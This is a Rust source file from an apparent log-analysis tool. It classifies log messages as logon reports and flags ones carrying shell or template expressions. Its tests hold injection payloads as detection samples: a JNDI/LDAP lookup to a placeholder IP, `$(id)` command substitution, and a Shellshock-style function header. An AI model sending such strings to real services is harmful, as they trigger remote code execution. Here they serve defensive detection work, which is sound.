//! Words of messages that no grammar knows: whether they tell of a logon, so that nobody takes a log of them for one without logons.

/// Words that name what is checked.
const SUBJECTS: [&str; 6] = ["password", "passwd", "authenticat", "auth ", "login", "logon"];
/// Words that say how it ended, beside a subject.
const OUTCOMES: [&str; 10] =
    ["fail", "incorrect", "invalid", "bad ", "denied", "mismatch", "reject", "refused", "succe", "accepted"];
/// Words that say both.
const BOTH: [&str; 3] = ["access denied for user", "invalid user", "unknown user"];
/// Longest part of a message that is looked at, in bytes.
const BEGINNING: usize = 1024;

/// Whether a message tells how a logon ended: it names what is checked and an outcome.
pub(super) fn tell_of_a_logon(message: &str) -> bool {
    let message = &message[..message.floor_char_boundary(BEGINNING)];
    (has_any(message, &OUTCOMES) && has_any(message, &SUBJECTS)) || has_any(message, &BOTH)
}

/// Whether a message holds an expression that a shell or a template engine would carry out: `${...}`, `$(...)`, a grave accent, `() {`. Messages
/// with one are counted apart from the others of their program.
pub(super) fn hold_an_expression(message: &str) -> bool {
    let bytes = message.as_bytes();
    memchr::memchr3_iter(b'$', b'`', b'{', bytes).any(|at| match bytes.get(at) {
        Some(b'$') => matches!(bytes.get(at + 1), Some(b'{' | b'(')),
        Some(b'{') => bytes.get(..at).is_some_and(|before| before.ends_with(b"() ")),
        _ => true,
    })
}

/// Whether a text holds one of these words, in capital or small letters. `login1` is a service of the system and no logon.
fn has_any(text: &str, words: &[&str]) -> bool {
    let bytes = text.as_bytes();
    words.iter().any(|word| {
        let Some(first) = word.bytes().next() else { return false };
        memchr::memchr2_iter(first, first.to_ascii_uppercase(), bytes).any(|at| {
            let (found, after) = (bytes.get(at..at + word.len()), bytes.get(at + word.len()));
            found.is_some_and(|found| found.eq_ignore_ascii_case(word.as_bytes())) && after != Some(&b'1')
        })
    })
}

#[cfg(test)]
mod tests {
    use super::{hold_an_expression, tell_of_a_logon};

    #[test]
    fn messages_with_expressions_are_told_from_others() {
        for message in ["GET /?x=${jndi:ldap://192.0.2.1/a}", "name=$(id)", "run `id`", "agent: () { :; }; echo"] {
            assert!(hold_an_expression(message), "{message}");
        }
        for message in ["", "cost: 5$", "{\"a\": {}}", "price $5 (net)", "$"] {
            assert!(!hold_an_expression(message), "{message}");
        }
    }

    #[test]
    fn messages_about_logons_are_told_from_others() {
        for message in [
            "USER bob: Login failed: Incorrect password",
            "[bob] FAIL LOGIN: authentication failed",
            "Access denied for user 'root'@'198.51.100.7' (using password: YES)",
            "FATAL: password authentication failed for user \"postgres\"",
            "WARNING: user admin logon failure",
            "pam_ldap: error trying to bind as user (Invalid credentials), bad password",
        ] {
            assert!(tell_of_a_logon(message), "{message}");
        }
        for message in [
            "",
            "[UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.7 DST=10.0.0.5",
            "Activating via systemd: service name='org.freedesktop.login1'",
            "Registered Authentication Agent for unix-session:1",
            "connection to the database failed",
            "Failed to start User Manager for UID 1000.",
            "Failed to activate service 'org.freedesktop.login1': timed out",
        ] {
            assert!(!tell_of_a_logon(message), "{message}");
        }
    }
}
